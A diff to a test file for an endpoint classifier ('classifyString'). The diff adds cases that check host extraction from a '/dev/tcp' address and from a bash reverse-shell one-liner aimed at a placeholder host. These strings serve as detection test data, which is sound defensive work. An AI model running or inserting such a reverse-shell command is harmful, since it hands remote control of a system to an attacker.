@@ -24,6 +24,8 @@ describe('classifyString: endpoints', () => {
     ['\\\\files.example.com\\share\\x.exe', 'files.example.com', 'url'],
     ['http://127.0.0.1:7152/', '127.0.0.1', 'url'],
     ['http://localhost:5000', 'localhost', 'url'],
+    ['/dev/tcp/198.51.100.7/4444', '198.51.100.7', 'address'],
+    ['bash -i >& /dev/tcp/shell.example.com/443 0>&1', 'shell.example.com', 'url'],
   ])('finds the host in %s', (text, host, form) => {
     expect(classifyString(text)).toContainEqual(
       expect.objectContaining({ kind: 'endpoint', host, form }),
